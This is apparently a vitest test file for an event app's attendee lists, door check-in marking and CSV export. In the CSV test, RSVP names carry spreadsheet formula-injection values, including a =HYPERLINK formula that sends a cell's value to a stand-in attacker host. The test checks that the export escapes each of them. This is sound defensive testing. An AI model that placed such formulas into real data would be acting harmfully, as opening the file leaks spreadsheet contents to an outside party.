/**
 * The organiser's lists, marking attendance at the door, and the CSV export:
 * what a spreadsheet would run as a formula is written as text.
 */
import { parse } from "csv-parse/sync";
import { randomUUID } from "node:crypto";
import { beforeEach, expect, test } from "vitest";
import { createEvent, rsvpAndConfirm, rsvpFor } from "../../tests/events";
import { prisma } from "~/utils/db.server";
import { attendeesCsv, listAttendees, markAttendance } from "./event-attendance.server";

beforeEach(async () => {
  await prisma.emailMessage.deleteMany();
  await prisma.rsvp.deleteMany();
  await prisma.event.deleteMany();
});

async function rsvpId(eventId: string, email: string) {
  return (await prisma.rsvp.findFirstOrThrow({ where: { eventId, email } })).id;
}

test("the lists: going by name, waiting in the order they confirmed, pending only counted; a search finds names in any case", async () => {
  const event = await createEvent({ capacity: 2 });
  await rsvpAndConfirm(event.id, "zoe@example.org", "Zoe Zephyr");
  await rsvpAndConfirm(event.id, "adam@example.org", "Adam Ash");
  await rsvpAndConfirm(event.id, "wait-1@example.org", "Will Wait");
  await rsvpAndConfirm(event.id, "wait-2@example.org", "Amy Wait");
  await rsvpFor(event.id, "pending@example.org", "Pat Pending");

  const lists = await listAttendees(event.id);
  expect(lists.going.map((p) => [p.name, p.email])).toEqual([
    ["Adam Ash", "adam@example.org"],
    ["Zoe Zephyr", "zoe@example.org"],
  ]);
  expect(lists.waiting.map((p) => p.name)).toEqual(["Will Wait", "Amy Wait"]);
  expect(lists.counts).toEqual({ going: 2, offered: 0, waiting: 2, cancelled: 0, pending: 1 });
  expect(lists.replies).toBe(5);
  expect(JSON.stringify(lists)).not.toContain("Pat Pending");

  const found = await listAttendees(event.id, "  wAiT ");
  expect(found.q).toBe("wAiT");
  expect(found.going).toEqual([]);
  expect(found.waiting.map((p) => p.name)).toEqual(["Will Wait", "Amy Wait"]);
  // The counts stay the event's, whatever the search.
  expect(found.counts.going).toBe(2);
  expect((await listAttendees(event.id, "%")).going).toEqual([]);
});

test("marking attended and undoing it; another event's RSVP, an unconfirmed one and junk are refused", async () => {
  const event = await createEvent();
  const other = await createEvent();
  await rsvpAndConfirm(event.id, "ann@example.org", "Ann");
  await rsvpAndConfirm(other.id, "bob@example.org", "Bob");
  await rsvpFor(event.id, "pending@example.org", "Pat");
  const ann = await rsvpId(event.id, "ann@example.org");

  const first = new Date("2099-03-06T10:05:00Z");
  expect(await markAttendance(event.id, ann, true, first)).toBe(true);
  // A second press keeps the first time they were seen.
  expect(await markAttendance(event.id, ann, true, new Date("2099-03-06T10:30:00Z"))).toBe(true);
  expect((await prisma.rsvp.findUniqueOrThrow({ where: { id: ann } })).attendedAt).toEqual(first);
  expect((await listAttendees(event.id)).attended).toBe(1);
  expect((await listAttendees(event.id)).going[0]).toMatchObject({ name: "Ann", attended: true });

  expect(await markAttendance(event.id, ann, false)).toBe(true);
  expect((await listAttendees(event.id)).attended).toBe(0);

  expect(await markAttendance(event.id, await rsvpId(other.id, "bob@example.org"), true)).toBe(false);
  expect(await markAttendance(event.id, await rsvpId(event.id, "pending@example.org"), true)).toBe(false);
  expect(await markAttendance(event.id, randomUUID(), true)).toBe(false);
  expect(await markAttendance(event.id, "not-an-id", true)).toBe(false);
  expect(await prisma.rsvp.count({ where: { attendedAt: { not: null } } })).toBe(0);
});

test("the CSV has a row for everyone who confirmed, times in Salford's time, and a formula typed as a name is written as text", async () => {
  const event = await createEvent();
  await rsvpAndConfirm(event.id, "ann@example.org", 'Ann, "the" Organiser');
  await rsvpAndConfirm(event.id, "evil@example.org", '=HYPERLINK("http://evil.example/"&A1,"Click")');
  await rsvpAndConfirm(event.id, "plus@example.org", "+1 Caller");
  await rsvpAndConfirm(event.id, "at@example.org", "@SUM(1+1)");
  await rsvpAndConfirm(event.id, "minus@example.org", "-2+3");
  await rsvpFor(event.id, "pending@example.org", "Pat Pending");
  await prisma.rsvp.updateMany({
    where: { email: "ann@example.org" },
    data: { confirmedAt: new Date("2027-07-01T09:15:00Z"), attendedAt: new Date() },
  });

  const csv = await attendeesCsv(event.id);
  const rows = parse(csv, { bom: true }) as string[][];
  expect(rows[0]).toEqual(["name", "email", "status", "confirmed at", "attended"]);
  expect(rows.slice(1).map((r) => [r[0], r[1], r[2], r[4]])).toEqual([
    ['Ann, "the" Organiser', "ann@example.org", "going", "yes"],
    ['\'=HYPERLINK("http://evil.example/"&A1,"Click")', "evil@example.org", "going", "no"],
    ["'+1 Caller", "plus@example.org", "going", "no"],
    ["'@SUM(1+1)", "at@example.org", "going", "no"],
    ["'-2+3", "minus@example.org", "going", "no"],
  ]);
  // 09:15 UTC on 1 July is 10:15 on a Salford clock (BST).
  expect(rows[1]![3]).toBe("2027-07-01 10:15");
  expect(csv).not.toContain("Pat Pending");
});
